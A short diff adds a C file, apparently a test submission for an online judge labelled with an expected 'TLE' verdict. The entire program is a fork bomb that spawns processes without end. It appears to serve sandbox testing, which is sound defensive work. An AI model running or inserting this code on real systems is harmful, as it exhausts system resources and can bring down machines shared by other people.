@@ -1,0 +1,3 @@
+// verdict: TLE
+#include <unistd.h>
+int main(void) { for (;;) fork(); }
